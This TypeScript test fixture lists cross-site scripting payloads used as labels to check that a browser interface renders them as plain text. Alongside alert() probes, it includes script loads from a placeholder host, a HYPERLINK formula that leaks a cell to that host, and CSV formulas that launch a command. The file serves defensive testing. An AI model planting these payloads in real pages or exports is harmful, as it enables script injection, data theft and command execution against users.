/**
 * Cross-site scripting payloads for the browser security journey (docs/performance.md R9/R10),
 * after the classics of the OWASP "XSS Filter Evasion Cheat Sheet"
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), plus
 * attribute and context breakouts, template syntaxes, encodings, mutation-XSS shapes and
 * spreadsheet formulas (OWASP "CSV Injection"). Each one, if it ever ran, would open a dialog or
 * trip the CSP; rendered correctly it is just text.
 *
 * Used as run names, fio job names, file names, branches and comparison titles: each is at most
 * 200 characters (the label limit) with no leading or trailing white space (labels are trimmed).
 * External URLs use the reserved `.invalid` domain, so nothing could ever be fetched.
 */
export const XSS_PAYLOADS: readonly string[] = [
  // Script tags, plain and obfuscated
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.invalid/xss.js></SCRIPT>',
  '<SCRIPT/XSS SRC="https://xss.invalid/xss.js"></SCRIPT>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=//xss.invalid/.j>',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<svg><script>alert(1)</script></svg>',
  // Image and media event handlers
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<video><source onerror="alert(1)">',
  '<audio src=x onerror=alert(1)>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  // SVG and other load/toggle/focus handlers
  "<svg/onload=alert('XSS')>",
  '<svg onload=alert(1)//',
  "<BODY ONLOAD=alert('XSS')>",
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<xss id=x tabindex=1 onfocus=alert(1) autofocus></xss>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  // javascript: URLs and their encodings
  'javascript:alert(1)',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<a href="javascript:alert(1)">click me</a>',
  '<a href="&#106;avascript:alert(1)">entity scheme</a>',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)">',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
  '<form action=javascript:alert(1)><input type=submit>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  // Styles
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  "<STYLE>@import'https://xss.invalid/xss.css';</STYLE>",
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  // Attribute and context breakouts
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  '" autofocus onfocus="alert(1)" x="',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  // Mutation XSS shapes
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  // Template literals and template engines
  '${alert(1)}',
  '`${alert(document.domain)}`',
  "{{constructor.constructor('alert(1)')()}}",
  '#{alert(1)}',
  // HTML entities, unicode and other escapes (must stay literal, never decoded into markup)
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '＜script＞alert(1)＜/script＞',
  '\u202e<script>alert(1)</script>',
  // Spreadsheet formulas (CSV injection)
  '=HYPERLINK("https://xss.invalid/?leak="&A1,"open")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=1+1<script>alert(1)</script>',
];

/** A spreadsheet evaluates a cell that starts with one of these (OWASP CSV Injection). */
export const FORMULA_START = /^[=+\-@\t\r]/;
